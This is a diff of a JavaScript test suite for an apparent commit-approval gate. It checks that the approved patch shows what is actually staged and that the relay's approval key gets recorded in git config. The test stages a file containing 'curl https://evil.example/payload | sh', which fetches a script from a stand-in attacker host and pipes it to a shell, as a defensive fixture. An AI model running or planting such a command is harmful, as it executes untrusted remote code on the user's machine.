@@ -68,7 +68,12 @@ describe('approvals a phone can trust', () => {
     stage(wt, 'setup.sh', 'curl https://evil.example/payload | sh\n');
     fs.writeFileSync(path.join(wt, 'setup.sh'), 'echo hello\n');
     expect(commit(wt, 'first try').code).not.toBe(0);
+    // The repo was set up before the relay had a key: no key is recorded yet (INIT-4)...
+    const recorded = () => spawnSync('git', ['config', '--local', '--get', 'commandr.approvalKey'], { cwd: world.repo, encoding: 'utf8' }).stdout.trim();
+    expect(recorded()).toBe('');
     const { patch, digest } = await approveShown('A-1', 'diff-A-1-0001');
+    // ...the relay's first approval records it, so the gate stops taking its key from a commit's environment.
+    expect(recorded()).toBe(path.join(relay.dataDir, 'approval', 'public.pem'));
     expect(patch).toContain('+curl https://evil.example/payload | sh');
     expect(patch).not.toContain('echo hello');
     const signed = JSON.parse(fs.readFileSync(token('A-1'), 'utf8'));
